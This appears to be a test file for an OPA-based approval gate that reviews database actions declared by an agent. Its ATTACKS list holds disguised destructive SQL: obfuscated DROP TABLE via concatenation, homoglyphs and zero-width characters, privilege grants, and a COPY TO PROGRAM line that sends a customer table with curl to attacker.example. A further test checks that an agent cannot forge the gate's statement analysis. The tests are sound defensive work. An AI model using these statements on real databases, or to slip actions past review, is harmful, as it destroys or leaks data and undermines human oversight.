"""Statements are understood, not pattern-matched: each attack that a read once passed with, against real OPA."""

import json
from datetime import UTC, datetime, timedelta

import pytest

from conftest import hitl, make_manifest, shipped_profile, write_manifests, write_yaml
from hitl_cli.statements import analysis_json

pytestmark = pytest.mark.attack  # each test tries a way past the gate (make bench counts them)

ZWSP = "\u200b"

# Declared `read` in production, each of these was auto-approved before statements were parsed.
ATTACKS = [
    ("UPDATE analytics.customers SET email = NULL", "snowflake", "write"),
    ("GRANT ALL ON analytics.customers TO PUBLIC", "postgres", "grant_access"),
    ("GRANT ALL PRIVILEGES ON TABLE analytics.customers TO PUBLIC", "postgres", "grant_access"),
    ("COPY analytics.customers TO PROGRAM 'curl -d @- https://attacker.example'", "postgres", None),
    ("CREATE OR REPLACE TABLE analytics.customers AS SELECT 1 AS id", "snowflake", "drop"),
    ("MERGE INTO analytics.customers c USING s ON c.id = s.id WHEN MATCHED THEN UPDATE SET email = NULL", "snowflake", "write"),
    ("INSERT OVERWRITE TABLE analytics.customers SELECT * FROM staging.empty", "databricks", "delete"),
    ("REPLACE INTO analytics.customers VALUES (1, 'x')", "mysql", None),
    ("INSERT OR REPLACE INTO customers VALUES (1, 'x')", "sqlite", "write"),
    ("ALTER TABLE analytics.customers SWAP WITH analytics.empty", "snowflake", "drop"),
    ("CALL admin.purge()", "snowflake", None),
    ("EXECUTE 'DR' || 'OP TABLE analytics.customers'", "postgres", None),
    ("EXEC('DR'+'OP TABLE analytics.customers')", "sqlserver", None),
    ("EXEC('DR'+'OP TABLE analytics.customers')", "snowflake", None),
    ("EXECUTE IMMEDIATE 'DR' || 'OP TABLE analytics.customers'", "snowflake", None),
    ("EXECUTE IMMEDIATE CONCAT('DR', 'OP TABLE analytics.customers')", "bigquery", None),
    ("DO $$ BEGIN EXECUTE chr(68)||'ROP TABLE analytics.customers'; END $$", "postgres", None),
    ("DR/**/OP TABLE analytics.customers", "postgres", None),
    ("\uff24\uff32\uff2f\uff30 TABLE analytics.customers", "postgres", None),
    (f"DR{ZWSP}OP TABLE analytics.customers", "postgres", None),
    ("SELECT 1 /*! ; DROP TABLE analytics.customers */", "mysql", None),
    ("WITH gone AS (DELETE FROM analytics.customers RETURNING *) SELECT count(*) FROM gone", "postgres", "delete"),
    ("SELECT * INTO analytics.copy FROM analytics.customers", "postgres", "schema_migration"),
    ("SELECT dblink_exec('host=x', 'DROP TABLE analytics.customers')", "postgres", None),
    ("VACUUM analytics.customers", "databricks", "delete"),
    ("SET ROLE admin; SELECT 1", "postgres", None),
    ("sel\u0435ct * from analytics.customers", "postgres", None),  # Cyrillic е
    ("SELECT 1\u00a0; DROP TABLE analytics.customers", "postgres", None),
    ("airflow dags delete nightly", "airflow", None),
]


def read_in_production(statement: str, system: str | None) -> dict:
    manifest = make_manifest(type="read", env="production", statement=statement)
    manifest["target"]["system"] = system
    return manifest


@pytest.mark.parametrize(("statement", "system", "treated_as"), ATTACKS, ids=[f"{a[1]}:{a[0][:40]}" for a in ATTACKS])
def test_a_read_that_does_more_never_auto_approves(policy, statement, system, treated_as):
    decision = policy.decide("default", read_in_production(statement, system))
    codes = {r.code for r in decision.reasons}
    assert decision.tier != "auto_approve"
    if treated_as is None:
        assert "unanalysable_statement" in codes
        assert decision.tier in ("escalate", "block")
    else:
        assert decision.action_type == treated_as
        assert "statement_type" in codes


@pytest.mark.parametrize("profile", ["default", "startup", "bank"])
def test_dynamic_sql_escalates_in_every_shipped_profile(policy, profile):
    manifest = read_in_production("CALL admin.purge()", "snowflake")
    manifest["target"]["environment"] = "dev"
    decision = policy.decide(profile, manifest)
    assert decision.tier == "escalate"
    assert [r.code for r in decision.reasons if r.tier == "escalate"] == ["unanalysable_statement"]


def test_a_plain_select_is_still_a_read(policy):
    statement = "SELECT region, sum(amount) FROM analytics.orders WHERE day > '2026-01-01' GROUP BY region"
    decision = policy.decide("default", read_in_production(statement, "snowflake"))
    assert decision.tier == "auto_approve"
    assert decision.action_type == "read"


def test_facts_name_kinds_where_and_tables():
    facts = json.loads(analysis_json("DELETE FROM a.b; UPDATE c SET x = 1 WHERE y", "postgres"))
    assert [(s["kind"], s["has_where"], s["writes"]) for s in facts["statements"]] == [
        ("delete", False, ["a.b"]),
        ("update", True, ["c"]),
    ]
    assert facts["unanalysable"] == []
    assert facts["dialect"] == "postgres"


def test_a_quoted_name_holding_a_dot_is_not_two_parts():
    facts = json.loads(analysis_json('DROP TABLE "analytics.staging_x"', "postgres"))
    assert facts["statements"][0]["writes"] == ['"analytics.staging_x"']


def test_an_unknown_system_falls_back_to_the_generic_dialect():
    assert json.loads(analysis_json("SELECT 1", "no-such-engine"))["dialect"] == "generic"
    assert json.loads(analysis_json("SELECT 1", None))["dialect"] == "generic"


def test_a_statement_seen_again_is_read_again_in_its_own_dialect():
    """Facts are remembered per statement and dialect: the same text on another system is not given the first's."""
    statement = "SELECT 'a\\'; UPDATE t SET x = NULL; -- '"
    first = json.loads(analysis_json(statement, "mysql"))
    other = json.loads(analysis_json(statement, "snowflake"))
    assert (first["dialect"], other["dialect"]) == ("mysql", "snowflake")
    assert "update" in [s["kind"] for s in first["statements"]]  # as PostgreSQL reads it
    assert [s["kind"] for s in other["statements"]][0] == "select"
    assert json.loads(analysis_json(statement, "mysql")) == first
    long_statement = "UPDATE t SET x = NULL WHERE " + " OR ".join(f"y = {n}" for n in range(400))
    assert json.loads(analysis_json(long_statement, "postgres")) == json.loads(analysis_json(long_statement, "postgres"))


def test_the_agent_cannot_supply_the_facts(opa_bin, tmp_path):
    manifest = read_in_production("UPDATE analytics.customers SET email = NULL", "snowflake")
    manifest["statement_facts"] = {"statements": [{"kind": "select"}], "unanalysable": []}
    plan = write_manifests(tmp_path, [manifest])
    result = hitl("evaluate", plan, "--profile", "default")
    assert result.returncode == 4
    assert "statement_facts" in result.stderr


def _evaluate(tmp_path, profile: dict, manifest: dict) -> dict:
    profile_file = write_yaml(tmp_path / "profile.yaml", profile)
    result = hitl("evaluate", write_manifests(tmp_path, [manifest]), "--profile", profile_file, "--format", "json")
    assert result.returncode in (0, 1, 3), result.stderr
    return json.loads(result.stdout)[0]


def test_a_waiver_covers_every_table_the_statement_writes(opa_bin, tmp_path):
    profile = shipped_profile("default")
    profile["waivers"] = [{
        "id": "WVR-STAGING", "agent": "trusted-agent", "action_type": "delete", "resource": "analytics.staging_*",
        "environment": "staging", "lower_to": "single_approval", "approved_by": "lead", "reason": "staging clean-up",
        "expires": (datetime.now(UTC) + timedelta(days=30)).isoformat(),
    }]  # fmt: skip
    manifest = make_manifest(type="delete", env="staging", statement="DELETE FROM analytics.staging_x WHERE day < '2020-01-01'")
    manifest["target"]["resource"] = "analytics.staging_x"
    assert _evaluate(tmp_path, profile, manifest)["tier"] == "single_approval"
    manifest["action"]["statement"] += "; DELETE FROM analytics.customers"
    decision = _evaluate(tmp_path, profile, manifest)
    assert decision["tier"] == "double_approval"
    assert "waiver" not in {r["code"] for r in decision["reasons"]}


def test_a_destructive_pattern_opa_cannot_compile_fails_closed(opa_bin, tmp_path):
    profile = shipped_profile("default")
    profile["destructive_statements"].append({"pattern": "(?!SELECT)", "treated_as": "drop"})
    manifest = make_manifest(type="read", env="dev", statement="SELECT 1")
    decision = _evaluate(tmp_path, profile, manifest)
    assert decision["tier"] == "escalate"
    assert "cannot be compiled by OPA" in " ".join(r["message"] for r in decision["reasons"])
    profile_file = write_yaml(tmp_path / "profile.yaml", profile)
    for command in ("validate", "lint"):
        result = hitl("profile", command, profile_file)
        assert result.returncode == 4
        assert "destructive_statements[3].pattern: OPA (RE2) cannot compile it" in result.stderr


def test_a_pattern_python_rejects_but_re2_compiles_is_valid(opa_bin, tmp_path):
    profile = shipped_profile("default")
    profile["destructive_statements"].append({"pattern": r"(?i)\pL+\z", "treated_as": "drop"})
    assert hitl("profile", "validate", write_yaml(tmp_path / "profile.yaml", profile)).returncode == 0
